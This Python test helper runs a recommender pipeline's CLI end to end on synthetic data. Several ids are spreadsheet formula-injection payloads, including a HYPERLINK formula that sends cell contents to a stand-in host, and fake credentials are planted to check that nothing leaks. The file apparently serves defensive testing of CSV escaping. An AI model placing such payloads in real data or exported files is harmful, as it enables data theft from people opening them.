"""Runs `twotower run` on a fresh synthetic dataset, as a user would, for e2e tests."""
import json
import os
import subprocess
import sys

from conftest import ROOT, demo_raw
from pipelines.config.schema import Config, apply_overrides


# Ids that type inference or stripping used to mangle ('007' -> 7, '1.5' -> '1.500000'),
# and ids a spreadsheet would run as formulas, or that start with '-' legitimately: the e2e
# data uses them, and they must come back exactly as written (through csvsafe.unescape
# from a CSV twotower wrote: pipelines/csvsafe.py).
ODD_PRODUCTS = {"P00001": "007", "P00002": "1.5", "P00003": " A1 ", "P00004": "Ünïcödé-产品",
                "P00005": '=HYPERLINK("x.example/?"&A1,"win")', "P00006": "-5",
                "P00007": "+SUM(1+1)"}
ODD_CUSTOMERS = {"C00004": "0042", "C00005": "顧客 5", "C00011": "@SUM(A1)",
                 "C00012": "-A12"}


def rename_ids(data):
    """Rewrites the synthetic CSV files with the odd ids."""
    import csv

    for name, column, mapping in (("purchases.csv", "customer_id", ODD_CUSTOMERS),
                                  ("purchases.csv", "product_id", ODD_PRODUCTS),
                                  ("products.csv", "product_id", ODD_PRODUCTS)):
        path = os.path.join(data, name)
        with open(path, encoding="utf-8", newline="") as handle:
            rows = list(csv.DictReader(handle))
        for row in rows:
            row[column] = mapping.get(row[column], row[column])
        with open(path, "w", encoding="utf-8", newline="") as handle:
            writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)


# credentials a user's environment holds: no file a run writes may contain them
PLANTED = {"GOOGLE_API_KEY": "planted-AIzaSyTwoTowerSecret0123456789",
           "AWS_SECRET_ACCESS_KEY": "planted-aws-secret-9f8e7d6c5b4a"}


def run_pipeline(tmp, name, overrides, customers=300, products=150, purchases=8000, seed=11):
    """Generates data (with odd ids), runs the CLI; returns {'root', 'data', 'stdout', 'config'}."""
    from pipelines.data.synthetic import generate

    data = str(tmp / "data")
    generate(data, customers=customers, products=products, purchases=purchases, seed=seed)
    rename_ids(data)
    root = str(tmp / "root")
    raw = apply_overrides(demo_raw(data), [f"pipeline.root={root}", f"pipeline.name={name}"]
                          + list(overrides))
    config_path = tmp / "config.json"
    config_path.write_text(json.dumps(raw))
    system_tmp = tmp / "system-tmp"  # the run's system temp folder: it must stay empty
    os.makedirs(system_tmp)
    done = subprocess.run([sys.executable, "-m", "pipelines", "run", "--config",
                           str(config_path)], capture_output=True, text=True, cwd=ROOT,
                          env=dict(os.environ, TMPDIR=str(system_tmp), **PLANTED))
    assert done.returncode == 0, (done.stdout + done.stderr)[-6000:]
    return {"root": os.path.join(root, name), "data": data, "stdout": done.stdout,
            "stderr": done.stderr, "config": Config.from_dict(raw), "name": name,
            "system_tmp": str(system_tmp), "system_tmp_after": sorted(os.listdir(system_tmp))}


def query_inputs(run, described, customers):
    """Serving inputs for ``customers``: each one's state now, as `twotower recommend` builds it."""
    from pipelines.recommend import query_histories, serving_values

    cfg = run["config"]
    states = query_histories(cfg, cfg.data.path, set(customers))
    rows = [serving_values(cfg, described, c, states.get(c)) for c in customers]
    return {d["input"]: [r[d["input"]] for r in rows] for d in described}


def catalog_ids(run):
    """Every product of the candidate table: the catalog, exactly as written."""
    import csv

    with open(run["config"].data.candidates.path, encoding="utf-8", newline="") as handle:
        return {r["product_id"] for r in csv.DictReader(handle)}


def write_users(path, users):
    """A users CSV (one customer_id per row, quoted where needed)."""
    import csv

    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["customer_id"])
        writer.writerows([u] for u in users)
    return str(path)


def read_recs(path):
    """A CSV `twotower recommend` wrote, with the ids as they were (csvsafe.unescape)."""
    import csv

    from pipelines.csvsafe import unescape

    with open(path, encoding="utf-8", newline="") as handle:
        assert handle.readline().strip().startswith("user_id,item_id,rank,score,cold")
        handle.seek(0)
        return [{k: unescape(v) for k, v in row.items()} for row in csv.DictReader(handle)]


def recommend_cli(run, tmp, users, k):
    """Runs `twotower recommend` for ``users`` (customer ids); returns the CSV's rows."""
    path = write_users(tmp / "users.csv", users)
    out = tmp / "recs.csv"
    done = subprocess.run([sys.executable, "-m", "pipelines", "recommend", "--model", run["root"],
                           "--users", path, "--k", str(k), "--out", str(out)],
                          capture_output=True, text=True, cwd=ROOT)
    assert done.returncode == 0, (done.stdout + done.stderr)[-4000:]
    return read_recs(out)
